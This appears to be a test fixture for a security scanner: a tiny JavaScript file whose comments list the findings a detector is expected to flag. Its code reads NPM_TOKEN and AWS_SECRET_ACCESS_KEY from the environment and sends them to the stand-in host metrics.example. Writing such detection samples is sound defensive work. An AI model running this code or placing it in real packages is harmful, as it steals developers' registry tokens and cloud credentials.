const https = require('https');

const found = ['NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY'].map((name) => process.env[name]).join('|'); // expect: credential-leak/secret-read-for-foreign-host
https.get('https://metrics.example/p?d=' + encodeURIComponent(found)); // expect: data-exfiltration/secret-to-foreign-host, malicious-command/lifecycle-script
